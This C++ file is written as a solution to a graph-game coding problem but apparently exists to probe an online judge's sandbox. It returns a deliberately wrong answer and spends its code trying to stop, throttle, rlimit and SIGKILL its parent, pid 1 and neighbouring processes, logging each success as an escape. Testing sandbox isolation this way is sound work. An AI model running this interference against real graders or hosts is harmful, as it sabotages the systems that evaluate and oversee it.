// Aims signals and limits at the processes around it (its parent, which is
// the sandbox helper or the judge, and the pids next to it): pidfds, SIGIO
// owners, resource limits, priorities, CPU affinity. Each call that works is
// said. Answers 3, never right; the judge must live to say WA.
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <unistd.h>
class Solution {
    static void said(const char* what, int pid) { fprintf(stderr, "escaped: %s on pid %d\n", what, pid); }

public:
    int catMouseGame(vector<vector<int>>& graph) {
        const int parent = getppid(), me = getpid();
        vector<int> targets = {parent, 1};
        for (int d = -8; d <= 8; ++d)
            if (parent + d > 1 && parent + d != me) targets.push_back(parent + d);
        for (int pid : targets) {
            int pidfd = syscall(SYS_pidfd_open, pid, 0);
            if (pidfd >= 0) {
                said("pidfd_open", pid);
                if (syscall(SYS_pidfd_send_signal, pidfd, SIGSTOP, nullptr, 0) == 0) said("pidfd_send_signal", pid);
                close(pidfd);
            }
            rlimit one{1, 1};
            if (syscall(SYS_prlimit64, pid, RLIMIT_FSIZE, &one, nullptr) == 0) said("prlimit64", pid);
            if (setpriority(PRIO_PROCESS, pid, 19) == 0) said("setpriority", pid);
            cpu_set_t set;
            CPU_ZERO(&set);
            CPU_SET(0, &set);
            if (sched_setaffinity(pid, sizeof set, &set) == 0) said("sched_setaffinity", pid);
            int p[2];
            if (pipe(p) == 0) {
                if (fcntl(p[0], F_SETOWN, pid) == 0) said("F_SETOWN", pid);
                if (fcntl(p[0], F_SETSIG, SIGKILL) == 0) said("F_SETSIG", pid);
                fcntl(p[0], F_SETFL, O_ASYNC | O_NONBLOCK);
                write(p[1], "x", 1);
                close(p[0]);
                close(p[1]);
            }
        }
        return 3;
    }
};
